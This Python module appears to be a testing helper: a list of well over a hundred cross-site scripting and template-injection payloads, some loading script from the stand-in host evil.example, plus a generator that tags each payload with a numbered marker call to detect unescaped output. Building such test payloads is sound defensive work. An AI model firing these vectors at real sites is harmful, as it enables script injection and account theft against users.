"""Payloads: texts that run a script or break the markup when a page contains them unescaped."""

from __future__ import annotations

from itertools import count

CALL = "__xss"  # the function that every payload calls, with a unique number
VECTORS = r"""
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script src=//evil.example/RUN.js></script>
<script type=module>RUN</script>
<script/x>RUN</script >
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<IMG SRC=x oNeRrOr=RUN>
<img src="x" alt="`" onerror='RUN'>
<img src=x:x onerror=RUN//
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
`><img src=x onerror=RUN>
\"><img src=x onerror=RUN>
&quot;><img src=x onerror=RUN>
" onmouseover="RUN" x="
' onmouseover='RUN' x='
" autofocus tabindex=0 onfocus=RUN x="
"onpointerenter=RUN//
` onmouseover=RUN x=`
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<math><mi xlink:href="javascript:RUN">press</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<object data="javascript:RUN"></object>
<embed src="javascript:RUN">
<a href="javascript:RUN">press</a>
<a href="jav&#x09;ascript:RUN">press</a>
<a href="&#1;javascript:RUN">press</a>
<area href="javascript:RUN" onclick=RUN>
<body onload=RUN>
<html onpageshow=RUN>
<details open ontoggle=RUN>
<dialog open onclose=RUN><form method=dialog><button>press</button></form></dialog>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN>
<picture><source srcset=x><img src=x onerror=RUN></picture>
<marquee onstart=RUN>x</marquee>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<button popovertarget=menu onclick=RUN>press</button>
<x contenteditable onbeforeinput=RUN>
<x onclick=RUN tabindex=0>press</x>
<x style="animation-name:x" onanimationstart=RUN>
<x style="content-visibility:auto" oncontentvisibilityautostatechange=RUN>
<style>@import "//evil.example/RUN.css";</style>
<style>*{background:url(//evil.example/RUN)}</style>
<style onload=RUN></style>
<link rel=stylesheet href=//evil.example/RUN.css onload=RUN>
<link rel=modulepreload href=//evil.example/RUN.js>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>RUN</script>
<base href="//evil.example/"><b>RUN</b>
<form action="javascript:RUN"><button>press</button></form>
<button formaction="javascript:RUN">press</button>
<form data-portal="sign-in"><input name=code><b>RUN</b></form>
<template data-message="unknown"><img src=x onerror=RUN></template>
<div data-portal="sign-out" onclick=RUN>press</div>
<p data-root="//evil.example/">RUN</p>
<div style="background:url(javascript:RUN)">x</div>
<table background="javascript:RUN"><tr><td>x</table>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<slot onslotchange=RUN><b slot=x>x</b></slot>
<template shadowrootmode=open><script>RUN</script></template>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</bdi></h1></main></body></html><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
<!--><script>RUN</script>-->
<!--<script>RUN</script>-->
<!--/slot--><script>RUN</script>
<!--slot:offers--><img src=x onerror=RUN><!--/slot-->
<!--slot:greeting-->RUN
]]><script>RUN</script>
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
<!DOCTYPE x [<!ENTITY y "RUN">]>&y;
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
javascript:RUN
JaVaScRiPt:RUN
javascript://%0aRUN
vbscript:RUN
data:text/html,<script>RUN</script>
//evil.example/RUN
{{ RUN }}
{{ config.__class__.__init__.__globals__ }} RUN
{% raw %}<script>RUN</script>{% endraw %}
{# #}<script>RUN</script>
${RUN}
#{RUN}
<%= RUN %>
[press](javascript:RUN)
![x](x"onerror="RUN)
<javascript:RUN>
$&<script>RUN</script>
$'<img src=x onerror=RUN>
$`<img src=x onerror=RUN>
$1<script>RUN</script>
';RUN;'
";RUN;"
</script><svg onload='RUN'>
1);RUN;(
""".strip().splitlines()


class Payloads:
    """A generator of payloads: the vectors in turn, each with a unique number."""

    def __init__(self) -> None:
        self.number = count(1)
        self.given: list[str] = []

    def next(self, words: bool = True) -> str:
        """Return the next payload; with `words=False` one without spaces, at signs and dots."""
        number = next(self.number)
        vectors = VECTORS if words else [vector for vector in VECTORS if not set(vector) & set(" @.")]
        text = vectors[number % len(vectors)].replace("RUN", f"{CALL}({number})")
        self.given.append(text)
        return text
